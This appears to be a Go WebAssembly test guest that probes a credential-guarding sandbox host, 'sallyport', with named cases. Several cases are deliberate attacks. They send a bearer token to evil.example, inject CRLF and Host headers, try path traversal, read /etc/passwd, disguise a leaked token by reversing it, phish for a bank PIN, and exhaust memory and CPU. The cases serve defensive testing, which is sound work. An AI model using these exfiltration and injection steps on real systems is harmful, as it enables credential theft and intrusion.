//go:build wasip1

// Command testguest is the guest of package host's tests: one wasm module,
// built once, that plays the case its options name. It calls the ABI with
// bare hands, as no SDK would.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"strings"
	"time"
	"unsafe"
)

//go:wasmimport sallyport:run/v1 input
func input(o, c uint32) int64

//go:wasmimport sallyport:run/v1 emit
func emit(p, n uint32) int64

//go:wasmimport sallyport:run/v1 interact
func interact(p, n, o, c uint32) int64

//go:wasmimport sallyport:run/v1 log
func log(level, p, n uint32) int64

//go:wasmimport sallyport:run/v1 fetch_result
func fetchResult(ticket, offset, o, c uint32) int64

//go:wasmimport sallyport:run/v1 error_text
func errorText(o, c uint32) int64

//go:wasmimport sallyport:credential/v1 use
func use(p, n, o, c uint32) int64

//go:wasmimport sallyport:credential/v1 status
func status(p, n, o, c uint32) int64

//go:wasmimport sallyport:credential/v1 reject
func reject(p, n, reason uint32) int64

//go:wasmimport sallyport:http/v1 send
func send(p, n, bp, bn uint32) int64

//go:wasmimport sallyport:http/v1 write
func write(h, p, n uint32) int64

//go:wasmimport sallyport:http/v1 wait
func wait(hp, hn uint32, timeout int64, o, c uint32) int64

//go:wasmimport sallyport:http/v1 read
func read(h, o, c uint32) int64

//go:wasmimport sallyport:http/v1 close
func closeHandle(h uint32) int64

func ptr(b []byte) uint32 { return uint32(uintptr(unsafe.Pointer(unsafe.SliceData(b)))) }

func in(s string) (uint32, uint32) {
	b := []byte(s)
	return ptr(b), uint32(len(b))
}

// out calls f with a buffer, and fetches what did not fit.
func out(size int, f func(o, c uint32) int64) (string, int64) {
	buf := make([]byte, size)
	r := f(ptr(buf), uint32(size))
	if r < 0 {
		return "", r
	}
	n, ticket := uint32(r), uint32(r>>32)
	if ticket == 0 {
		return string(buf[:n]), 0
	}
	whole := make([]byte, n)
	for got := uint32(0); got < n; {
		k := fetchResult(ticket, got, ptr(whole)+got, min(n-got, 1000))
		if k < 0 {
			return "", k
		}
		got += uint32(k)
	}
	return string(whole), 0
}

var (
	records int
	escaped []byte
)

func say(line string) int64 { p, n := in(line); return emit(p, n) }

// tell emits a record of what a case found.
func tell(what string, got any) {
	data, _ := json.Marshal(map[string]string{"id": fmt.Sprintf("%03d", records), "what": what, "got": fmt.Sprint(got)})
	r := say(fmt.Sprintf(`{"type":"RECORD","stream":"findings","key":"%03d","data":%s,"emitted_at":"2026-01-01T00:00:00Z"}`, records, data))
	if r == 1 {
		records++
	}
}

func surrogate(name string) (string, int64) {
	p, n := in(name)
	return out(64, func(o, c uint32) int64 { return use(p, n, o, c) })
}

type head struct {
	Method  string      `json:"method"`
	URL     string      `json:"url"`
	Headers [][2]string `json:"headers,omitempty"`
	Timeout int64       `json:"timeout_ms,omitempty"`
}

func request(h head, body string) int64 {
	b, _ := json.Marshal(h)
	bp, bn := in(body)
	return send(ptr(b), uint32(len(b)), bp, bn)
}

func handles(hs ...uint32) (uint32, uint32) {
	return uint32(uintptr(unsafe.Pointer(unsafe.SliceData(hs)))), uint32(len(hs))
}

// answer waits for an exchange's end and returns its status and body.
func answer(h uint32) (int, string, string) {
	var body []byte
	code, failed := 0, ""
	for {
		hp, hn := handles(h)
		text, r := out(4096, func(o, c uint32) int64 { return wait(hp, hn, -1, o, c) })
		if r < 0 {
			return 0, "", fmt.Sprint("wait ", r)
		}
		var ready []struct {
			State  string
			Status int
			Error  string
		}
		_ = json.Unmarshal([]byte(text), &ready)
		if len(ready) == 0 {
			return 0, "", "nothing ready"
		}
		code = ready[0].Status
		switch ready[0].State {
		case "error":
			failed = ready[0].Error
			return code, string(body), failed
		case "done":
			return code, string(body), ""
		case "body":
			buf := make([]byte, 8192)
			n := read(h, ptr(buf), uint32(len(buf)))
			if n > 0 {
				body = append(body, buf[:n]...)
			}
		}
	}
}

func get(url string, headers ...[2]string) string {
	r := request(head{Method: "GET", URL: url, Headers: headers}, "")
	if r < 0 {
		return fmt.Sprint("send ", r)
	}
	code, body, failed := answer(uint32(r))
	closeHandle(uint32(r))
	if failed != "" {
		return "failed " + failed
	}
	return fmt.Sprint(code, " ", body)
}

type start struct {
	Mode     string                     `json:"collection_mode"`
	State    map[string]json.RawMessage `json:"state"`
	Options  map[string]any             `json:"options"`
	Bindings map[string]any             `json:"bindings"`
}

//go:wasmexport sallyport_abi
func abiVersion() int32 { return 1 }

//go:wasmexport sallyport_run
func run() int32 {
	text, r := out(16, func(o, c uint32) int64 { return input(o, c) })
	var s start
	if r != 0 || json.Unmarshal([]byte(text), &s) != nil {
		return 2
	}
	name, _ := s.Options["case"].(string)
	base, _ := s.Options["base"].(string)
	f, ok := cases[name]
	if !ok {
		return 3
	}
	done := f(base, s)
	if done == "" {
		done = fmt.Sprintf(`{"type":"DONE","status":"succeeded","records_emitted":%d}`, records)
	}
	if done != "-" {
		say(done)
	}
	return 0
}

func main() {}

var cases = map[string]func(base string, s start) string{
	"nothing": func(string, start) string { return "" },
	"goroutines": func(string, start) string {
		tell("there are", runtime.NumGoroutine())
		return ""
	},
	"bearer": func(base string, _ start) string {
		token, r := surrogate("TOKEN")
		tell("use", r)
		tell("shape", len(token) == 40 && strings.HasPrefix(token, "sp1"))
		again, _ := surrogate("TOKEN")
		tell("same", again == token)
		tell("get", get(base+"/bearer", [2]string{"Authorization", "Bearer " + token}))
		return ""
	},
	"echo": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		body := get(base+"/mirror", [2]string{"Authorization", "Bearer " + token})
		tell("same", body == "get: 200 Bearer "+token || strings.HasSuffix(body, "Bearer "+token))
		tell("record", token)
		return ""
	},
	"leak": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		value := []byte(get(base+"/reversed", [2]string{"Authorization", "Bearer " + token})) // no form the guard knows
		for i, j := 0, len(value)-1; i < j; i, j = i+1, j-1 {
			value[i], value[j] = value[j], value[i]
		}
		tell("before", "x")
		tell("value", string(value))
		tell("after", get(base+"/after"))
		return ""
	},
	"names": func(string, start) string {
		for _, name := range []string{"TOKEN", "ALIAS", "ACCOUNT", "UNDECLARED", "SECRET_PASSWORD", ""} {
			v, r := surrogate(name)
			if name == "ACCOUNT" {
				tell(name, v)
			} else {
				tell(name, r)
			}
			p, n := in(name)
			st, r := out(200, func(o, c uint32) int64 { return status(p, n, o, c) })
			tell(name+" status", fmt.Sprint(r, " ", st))
		}
		text, _ := out(100, func(o, c uint32) int64 { return errorText(o, c) })
		tell("error text", text)
		return ""
	},
	"places": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		tell("other header", get(base+"/x", [2]string{"X-Token", token}))
		tell("url", get(base+"/x?key="+token))
		tell("path", get(base+"/"+token))
		tell("header name", get(base+"/x", [2]string{token, "x"}))
		tell("method not allowed", request(head{Method: "DELETE", URL: base + "/x"}, ""))
		tell("body", request(head{Method: "POST", URL: base + "/x"}, "x"+token))
		tell("other path", get(base+"/private", [2]string{"Authorization", "Bearer " + token}))
		tell("other origin", get("https://evil.example/", [2]string{"Authorization", "Bearer " + token}))
		tell("traversal", get(base+"/x/../private"))
		tell("host header", get(base+"/x", [2]string{"Host", "evil.example"}))
		tell("line break", get(base+"/x", [2]string{"X-A", "b\r\nX-C: d"}))
		tell("forged", get(base+"/x", [2]string{"X-Token", "sp1" + strings.Repeat("A", 37)}))
		b, _ := json.Marshal(head{Method: "POST", URL: base + "/x"})
		h := send(ptr(b), uint32(len(b)), 0, 0xFFFF_FFFF)
		p, n := in(token[:20])
		tell("streamed body, first half", write(uint32(h), p, n))
		p, n = in(token[20:])
		tell("streamed body, second half", write(uint32(h), p, n))
		_, _, failed := answer(uint32(h))
		tell("streamed body, end", failed)
		return ""
	},
	"redirect": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		tell("get", get(base+"/redirect", [2]string{"Authorization", "Bearer " + token}))
		return ""
	},
	"upload": func(base string, _ start) string {
		b, _ := json.Marshal(head{Method: "POST", URL: base + "/echo"})
		h := send(ptr(b), uint32(len(b)), 0, 0xFFFF_FFFF)
		for _, part := range []string{"one ", "two sp", "three"} {
			p, n := in(part)
			tell("write", write(uint32(h), p, n))
		}
		tell("end", write(uint32(h), 0, 0))
		code, body, failed := answer(uint32(h))
		tell("answer", fmt.Sprint(code, " ", body, failed))
		tell("close", closeHandle(uint32(h)))
		tell("close again", closeHandle(uint32(h)))
		return ""
	},
	"several": func(base string, _ start) string {
		var hs []uint32
		for i := range 8 {
			hs = append(hs, uint32(request(head{Method: "GET", URL: fmt.Sprintf("%s/slow?n=%d", base, i)}, "")))
		}
		began := time.Now()
		for _, h := range hs {
			code, body, failed := answer(h)
			tell("slow", fmt.Sprint(code, " ", body, failed))
		}
		tell("overlapped", time.Since(began) < time.Second)
		return ""
	},
	"handles": func(base string, _ start) string {
		last := int64(0)
		for range 65 {
			last = request(head{Method: "GET", URL: base + "/hang"}, "")
		}
		tell("65th", last)
		tell("unknown", read(7, 0, 0))
		hp, hn := handles(1234)
		tell("wait unknown", wait(hp, hn, 0, 0, 0))
		return ""
	},
	"pointers": func(string, start) string {
		const far = 0xFFFF_FF00
		p, n := in("TOKEN")
		tell("use name", use(far, 5, p, n))
		tell("use out", use(p, n, far, 0x100))
		tell("use wrap", use(p, n, 0xFFFF_FFFF, 0xFFFF_FFFF))
		tell("input", input(far, 0xFF))
		tell("emit", emit(far, 0x200))
		tell("emit long", emit(0, 0xFFFF_FFFF))
		tell("log", log(1, far, 0xFFFF))
		tell("log level", log(9, p, n))
		tell("send", send(far, 10, 0, 0))
		tell("send body", send(p, n, far, 0xFFF))
		tell("wait", wait(far, 64, 0, 0, 0))
		tell("wait many", wait(0, 65, 0, 0, 0))
		tell("fetch", fetchResult(99, 0, 0, 0))
		tell("interact", interact(far, 10, 0, 0))
		tell("long name", use(p, 0xFFFF, p, n))
		buf := []byte("TOKEN...................................")
		escaped = buf // or the compiler believes that nobody else writes to it
		tell("alias", use(ptr(buf), 5, ptr(buf), 40) == 40 && buf[0] == 's')
		return ""
	},
	"tickets": func(string, start) string {
		p, n := in("TOKEN")
		last := int64(0)
		for range 65 {
			last = use(p, n, 0, 0)
		}
		tell("65th", last)
		return ""
	},
	"reject": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		tell("get", get(base+"/unauthorized", [2]string{"Authorization", "Bearer " + token}))
		return fmt.Sprintf(`{"type":"DONE","status":"failed","records_emitted":%d,"error":{"message":"no luck","retryable":true}}`, records)
	},
	"recovers": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		tell("get", get(base+"/unauthorized", [2]string{"Authorization", "Bearer " + token}))
		tell("get", get(base+"/bearer", [2]string{"Authorization", "Bearer " + token}))
		return ""
	},
	"reject, then 503": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		tell("get", get(base+"/unauthorized", [2]string{"Authorization", "Bearer " + token}))
		time.Sleep(2500 * time.Millisecond)
		tell("get", get(base+"/unavailable", [2]string{"Authorization", "Bearer " + token}))
		return fmt.Sprintf(`{"type":"DONE","status":"failed","records_emitted":%d,"error":{"message":"no luck","retryable":true}}`, records)
	},
	"flood": func(base string, _ start) string {
		for i := range 600 {
			get(fmt.Sprintf("https://h%d.example/", i))
		}
		token, _ := surrogate("TOKEN")
		tell("get", get(base+"/bearer", [2]string{"Authorization", "Bearer " + token}))
		return ""
	},
	"switch": func(base string, _ start) string {
		for range 20 {
			h := request(head{Method: "GET", URL: base + "/switch"}, "")
			_, _, failed := answer(uint32(h))
			closeHandle(uint32(h))
			if failed != "unavailable" {
				tell("switch", failed)
			}
		}
		return ""
	},
	"bodies": func(base string, _ start) string {
		big := strings.Repeat("x", 24<<20)
		var got []int64
		for range 4 {
			r := request(head{Method: "POST", URL: base + "/hang"}, big)
			if r > 0 {
				r = 1
			}
			got = append(got, r)
		}
		tell("bodies", got)
		return ""
	},
	"malformed": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		tell("get", get(base+"/malformed", [2]string{"Authorization", "Bearer " + token}))
		return fmt.Sprintf(`{"type":"DONE","status":"failed","records_emitted":%d,"error":{"message":"no luck","retryable":true}}`, records)
	},
	"heads": func(base string, _ start) string {
		for _, h := range []string{
			`{"method":"GET","url":"` + base + `/x","url":"` + base + `/y"}`, `{"method":"GET","URL":"` + base + `/x"}`,
			`{"method":"GET","url":"` + base + `/x","headers":[["A"]]}`, `{"method":"GET","url":"` + base + `/x","headers":[["A","b","c"]]}`,
			`{"method":"GET","url":"` + base + `/x#f"}`, `{"method":"GET","url":"` + base + `/x?a b"}`, `{"method":"GET","url":"` + base + `/x","timeout_ms":-1}`,
			`{"method":"GET","url":"` + base + `/x","headers":[["Proxy-Foo","1"]]}`, `{"method":"GET","url":"` + strings.Replace(base, "https://", "https://user@", 1) + `/x"}`,
			`{"method":"G T","url":"` + base + `/x"}`, `[]`, `{"method":"GET","url":"/x"}`,
		} {
			p, n := in(h)
			tell("head", send(p, n, 0, 0))
		}
		return ""
	},
	"ask twice": func(string, start) string {
		p, n := in(`{"type":"INTERACTION","request_id":"q1","kind":"credentials","message":"m","schema":{"properties":{"TOKEN":{},"ALIAS":{}}}}`)
		text, r := out(300, func(o, c uint32) int64 { return interact(p, n, o, c) })
		var a struct{ Data map[string]string }
		_ = json.Unmarshal([]byte(text), &a)
		tell("ask", fmt.Sprint(r, " ", len(a.Data), " ", a.Data["TOKEN"] == a.Data["ALIAS"]))
		return ""
	},
	"wait a little": func(string, start) string { time.Sleep(10 * time.Second); return "" },
	"false reject": func(string, start) string {
		p, n := in("TOKEN")
		tell("reject", reject(p, n, 1))
		return `{"type":"DONE","status":"failed","records_emitted":1,"error":{"message":"no luck","retryable":true}}`
	},
	"state": func(_ string, s start) string {
		tell(s.Mode, string(s.State["findings"]))
		say(`{"type":"STATE","stream":"findings","cursor":{"n":1}}`)
		say(`{"type":"STATE","stream":"findings","cursor":{"n":2}}`)
		return ""
	},
	"state, then failure": func(string, start) string {
		say(`{"type":"STATE","stream":"findings","cursor":{"n":3}}`)
		return `{"type":"DONE","status":"failed","records_emitted":0,"error":{"message":"broken","retryable":false}}`
	},
	"bad record": func(string, start) string {
		r := say(`{"type":"RECORD","stream":"findings","key":"a","data":{"id":"a","what":1},"emitted_at":"2026-01-01T00:00:00Z"}`)
		text, _ := out(500, func(o, c uint32) int64 { return errorText(o, c) })
		log2(fmt.Sprint("taken ", r, ": ", text))
		return ""
	},
	"after done": func(string, start) string {
		say(`{"type":"DONE","status":"succeeded","records_emitted":0}`)
		say(`{"type":"PROGRESS","message":"more"}`)
		return "-"
	},
	"use after done": func(base string, _ start) string {
		token, _ := surrogate("TOKEN")
		say(`{"type":"DONE","status":"succeeded","records_emitted":0}`)
		_, r := surrogate("TOKEN")
		log2(fmt.Sprint("use ", r, ", get ", get(base+"/bearer", [2]string{"Authorization", "Bearer " + token})))
		return "-"
	},
	"bindings": func(_ string, s start) string { tell("bindings", s.Bindings); return "" },
	"wrong count": func(string, start) string {
		return `{"type":"DONE","status":"succeeded","records_emitted":7}`
	},
	"no done": func(string, start) string { return "-" },
	"panic": func(string, start) string {
		var m map[string]int
		m["boom"] = 1
		return ""
	},
	"exit": func(string, start) string { os.Exit(7); return "" },
	"exit after done": func(string, start) string {
		say(`{"type":"DONE","status":"succeeded","records_emitted":0}`)
		os.Exit(7)
		return ""
	},
	"progress": func(string, start) string {
		say(`{"type":"PROGRESS","message":"half\u202eway","stream":"findings","count":1,"total":2}`)
		log2("a line\x1b[31m")
		fmt.Println("to stdout")
		fmt.Fprintln(os.Stderr, "to stderr")
		return ""
	},
	"ask": func(string, start) string {
		p, n := in(`{"type":"INTERACTION","request_id":"q1","kind":"credentials","message":"Your token,\u202e please","schema":{"properties":{"TOKEN":{}}}}`)
		text, r := out(300, func(o, c uint32) int64 { return interact(p, n, o, c) })
		var a struct {
			Status string
			Data   map[string]string
		}
		_ = json.Unmarshal([]byte(text), &a)
		tell("ask", fmt.Sprint(r, " ", a.Status, " ", strings.HasPrefix(a.Data["TOKEN"], "sp1")))
		return ""
	},
	"phish": func(string, start) string {
		for _, q := range []string{
			`{"type":"INTERACTION","request_id":"q1","kind":"credentials","message":"x","schema":{"properties":{"BANK_PIN":{}}}}`,
			`{"type":"INTERACTION","request_id":"q1","kind":"credentials","message":"x","schema":{"properties":{"SECRET_PASSWORD":{}}}}`,
			`{"type":"INTERACTION","request_id":"q1","kind":"manual_action","message":"type it here","schema":{"properties":{"TOKEN":{}}}}`,
			`{"type":"INTERACTION","request_id":"q1","kind":"otp","message":"x"}`,
			`{"type":"INTERACTION","request_id":"q1","kind":"credentials","message":" "}`,
		} {
			p, n := in(q)
			tell("ask", interact(p, n, 0, 0))
		}
		return ""
	},
	"files": func(string, start) string {
		_, err := os.ReadFile("/etc/passwd")
		tell("file", err != nil)
		tell("environ", len(os.Environ()))
		tell("args", len(os.Args))
		_, err = os.ReadDir(".")
		tell("dir", err != nil)
		return ""
	},
	"hang": func(base string, _ start) string {
		h := request(head{Method: "GET", URL: base + "/hang"}, "")
		answer(uint32(h))
		return ""
	},
	"sleep": func(string, start) string { time.Sleep(time.Hour); return "" },
	"spin": func(string, start) string {
		for {
		}
	},
	"calls": func(string, start) string {
		for {
			p, n := in("TOKEN")
			use(p, n, 0, 0)
		}
	},
	"asking": func(string, start) string {
		p, n := in(`{"type":"INTERACTION","request_id":"q1","kind":"manual_action","message":"wait"}`)
		interact(p, n, 0, 0)
		return ""
	},
	"emitting": func(string, start) string {
		for {
			tell("again", "and again")
		}
	},
	"grow": func(string, start) string {
		var keep [][]byte
		for range 64 {
			keep = append(keep, make([]byte, 16<<20))
		}
		tell("kept", len(keep))
		return ""
	},
}

func log2(line string) { p, n := in(line); log(1, p, n) }
